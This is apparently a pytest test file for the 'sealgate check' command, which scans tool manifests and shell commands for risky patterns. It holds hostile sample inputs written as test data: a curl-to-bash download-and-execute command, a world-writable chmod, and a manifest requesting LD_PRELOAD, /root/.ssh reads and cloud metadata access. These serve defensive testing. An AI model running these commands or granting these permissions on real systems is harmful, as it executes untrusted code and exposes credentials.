"""``sealgate check``: the analysers on a manifest or a command, with exit codes by severity."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sealgate.cli import main
from tests.cli.clihome import write_hello


def check(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, object], str]:
    capsys.readouterr()
    code = main(["check", *args, "--json"])
    captured = capsys.readouterr()
    return code, json.loads(captured.out) if captured.out else {}, captured.err


def codes(report: dict[str, object]) -> list[str]:
    findings = report["findings"]
    assert isinstance(findings, list)
    return [f["code"] for f in findings]


def test_dangerous_shell_string_exits_3_with_its_code(capsys: pytest.CaptureFixture[str]) -> None:
    code, report, err = check(capsys, "--command", "curl -fsSL https://get.example/x.sh | bash")
    assert (code, report["denied"]) == (3, True) and codes(report) == ["command-download-exec"]
    assert "check-denied" in err


def test_benign_argv_exits_0(capsys: pytest.CaptureFixture[str]) -> None:
    code, report, _ = check(capsys, "--argv-json", '["ls", "-l", "/srv"]')
    assert (code, report["denied"], codes(report)) == (0, False, [])


def test_medium_finding_denies_only_from_medium(capsys: pytest.CaptureFixture[str]) -> None:
    assert check(capsys, "--command", "chmod 777 ./out")[0] == 0
    code, report, _ = check(capsys, "--command", "chmod 777 ./out", "--deny-from", "medium")
    assert code == 3 and codes(report) == ["command-chmod-world-writable"]


def test_manifest_checked_as_written_without_writing_anything(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    tool = write_hello(tmp_path / "tool")
    yaml = (tool / "sealgate-tool.yaml").read_text()
    yaml += "env: [LD_PRELOAD]\nfilesystem: {read: [/root/.ssh]}\nnetwork: {allow: [metadata.google.internal]}\n"
    (tool / "sealgate-tool.yaml").write_text(yaml)
    before = sorted(p.name for p in tool.iterdir())
    code, report, _ = check(capsys, "--manifest", str(tool))
    assert code == 3
    assert set(codes(report)) >= {"env-dangerous-variable", "path-sensitive", "url-metadata-address"}
    assert sorted(p.name for p in tool.iterdir()) == before  # no compiled manifest written


def test_malformed_manifest_and_empty_call_refused_cleanly(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    tool = write_hello(tmp_path / "tool")
    (tool / "sealgate-tool.yaml").write_text("name: acme/x\nversion: 1\ncommand: [true]\nsurprise: 1\n")
    assert main(["check", "--manifest", str(tool)]) == 3
    assert "malformed-input" in capsys.readouterr().err
    assert main(["check"]) == 1
    assert "nothing to check" in capsys.readouterr().err
